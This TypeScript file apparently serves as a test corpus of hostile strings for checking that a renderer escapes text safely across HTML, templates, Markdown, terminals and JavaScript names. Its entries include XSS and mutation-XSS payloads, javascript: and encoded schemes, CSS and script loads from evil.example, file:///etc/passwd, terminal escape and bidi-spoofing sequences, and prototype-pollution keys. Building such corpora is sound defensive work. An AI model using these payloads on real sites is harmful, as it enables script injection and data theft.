/** Texts that try to be more than text: to HTML, to script, to templates, Markdown, terminals and to JavaScript's own names. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>globalThis.pwned = 1</script>', '</script><script>pwned=1</script>', '</style><script>pwned=1</script>',
  '<!--<script>', '-->', ']]>', '<![CDATA[', '<img src=x onerror="pwned=1">', '"><svg onload=pwned=1>', '\' autofocus onfocus=pwned=1 x=\'',
  '<svg><a xlink:href="javascript:pwned=1">x</a></svg>', '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:pwned=1">click</a>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>', '<style>*{display:none}</style>', '<details open ontoggle=pwned=1>',
  '</textarea><script>pwned=1</script>', '</title><script>pwned=1</script>', '</pre></code></td></table></div>',
  'javascript:pwned=1', 'data:text/html,<script>pwned=1</script>', 'https://evil.example/?q=1', '//evil.example/x',
  '{{constructor.constructor("pwned=1")()}}', '${pwned=1}', '<%= pwned=1 %>', '#{pwned=1}', '`${pwned=1}`', '$&', "$'", '$`', '$1', '$$',
  '%s %d %o %c', '&lt;b&gt;', '&amp;amp;', '&#60;script&#62;', '&nbsp', '\\u003cscript\\u003e', '\\x3cscript>',
  '[link](javascript:pwned=1)', '![x](https://evil.example/x.png)', '**bold** _em_ `code`', '```\n# heading\n```', '1. list', '| a | b |',
  '"quoted"', "it's", 'back\\slash', 'tail\\', 'a\nb', 'a\r\nb', '\t', '', ' ', 'end', 'a --> b', '%%{init: {}}%%', 'direction LR',
  '\u001b[31mred\u001b[0m', '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007', '\u001b]0;title\u0007', '\u001b[2J', '\u009b31m',
  '\u202egnp.exe\u202c', '\u2066isolate', '\u200bzero\u200dwidth', '\ufeffbom', '\u2028line\u2029paragraph', '\u0000nul', '\u007f', '\ud800', 'x\udfff',
  '\ufffe\uffff', '\u{1f600}', '漢字かな', 'e\u0301\u0302\u0303', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'null', 'undefined',
  // Markup that changes its meaning when it is parsed a second time, and elements that bring other rules of parsing along.
  '<noscript><p title="</noscript><img src=x onerror=pwned=1>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned=1>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>',
  '<template><script>pwned=1</script></template>', '<xmp><img src=x onerror=pwned=1></xmp>', '<plaintext>', '<select><style></select><img src=x onerror=pwned=1>',
  '<svg><script>pwned=1</script></svg>', '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned=1>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>', '</svg><img src=x onerror=pwned=1>',
  // Attributes without quotes, without spaces, with odd ones between; events that need no hand.
  '<img/src=x/onerror=pwned=1>', '<img\fsrc=x\nonerror=pwned=1>', '<body onload=pwned=1>', '<input autofocus onfocus=pwned=1>', '<video><source onerror=pwned=1></video>',
  '<marquee onstart=pwned=1>', '<object data="javascript:pwned=1">', '<embed src="javascript:pwned=1">', '<form action="javascript:pwned=1"><button>', '<isindex action=javascript:pwned=1>',
  '` onmouseover=pwned=1 ', '"onclick="pwned=1', "'-pwned=1-'", '";pwned=1;//', '\\";pwned=1;//', '*/pwned=1/*', '\u2028pwned=1',
  // Schemes in other clothes, and styles.
  'JaVaScRiPt:pwned=1', '\u0001javascript:pwned=1', 'java\tscript:pwned=1', 'vbscript:pwned', 'data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+', 'blob:https://evil.example/1',
  'file:///etc/passwd', '\\\\evil.example\\share', 'vscode://evil.example/open?x=1', 'x;background:url(https://evil.example/x)', '}*{background:url(https://evil.example/x)}',
  '@import "https://evil.example/x.css";', 'expression(pwned=1)', '</style><link rel=prefetch href=https://evil.example/>', '<a ping=https://evil.example/ href=#>x</a>',
  '+ADw-script+AD4-pwned=1+ADw-/script+AD4-', '<script src=//evil.example/x.js></script>', '<script type=module>import "https://evil.example/x.js"</script>', '<!--[if IE]><script>pwned=1</script><![endif]-->',
  '__defineGetter__', 'innerHTML', 'location.hash', '#frame-0', 'frame-0" onclick="pwned=1', 'x'.repeat(3_000), '<'.repeat(1_000), '漢'.repeat(1_000),
]
